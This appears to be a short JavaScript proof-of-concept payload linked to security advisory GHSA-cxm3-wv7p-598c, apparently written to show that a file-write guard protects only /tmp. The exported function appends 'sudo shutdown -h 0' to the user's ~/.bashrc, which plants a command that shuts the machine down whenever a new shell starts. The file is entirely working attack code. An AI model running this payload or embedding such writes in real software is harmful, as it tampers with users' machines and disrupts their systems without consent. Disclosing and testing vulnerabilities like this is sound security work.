// act: appends a command to ~/.bashrc
// source: GHSA-cxm3-wv7p-598c
// open: only /tmp is guarded; on Lambda, /tmp is the only place that can be written to
// proof: word
'use strict';
const fs = require('fs');
const os = require('os');

module.exports = () => fs.appendFileSync(`${os.homedir()}/.bashrc`, 'sudo shutdown -h 0\n');
